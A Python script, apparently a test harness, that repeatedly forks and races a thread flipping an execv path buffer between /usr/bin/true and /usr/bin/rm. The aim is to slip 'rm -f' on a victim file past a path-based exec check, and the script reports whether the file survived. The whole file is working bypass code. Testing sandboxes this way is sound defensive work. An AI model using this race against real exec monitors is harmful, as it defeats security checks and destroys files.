#!/usr/bin/env python3
"""The execve race: a thread flips the path buffer between an allowed
program and a denied one while the main thread executes it, so that the
path the check reads is not the path the kernel opens.  Usage:
race.py TRIES VICTIM -- runs TRIES forks, each racing once; exits 0."""
import ctypes, os, sys, threading

libc = ctypes.CDLL(None, use_errno=True)
SAFE = b"/usr/bin/true\0"
BAD = b"/usr/bin/rm\0\0\0"
tries, victim = int(sys.argv[1]), sys.argv[2]

def child():
    buf = ctypes.create_string_buffer(SAFE, len(SAFE))
    argv = (ctypes.c_char_p * 4)(b"x", b"-f", victim.encode(), None)
    def flip():
        for i in range(1_000_000):
            ctypes.memmove(buf, BAD if i & 1 else SAFE, len(SAFE))
    threading.Thread(target=flip, daemon=True).start()
    for _ in range(20):
        libc.execv(buf, argv)
    os._exit(3)

for _ in range(tries):
    pid = os.fork()
    if pid == 0:
        try:
            child()
        finally:
            os._exit(4)
    os.waitpid(pid, 0)
    if not os.path.exists(victim):
        print("victim deleted")
        sys.exit(1)
print("victim survived %d tries" % tries)
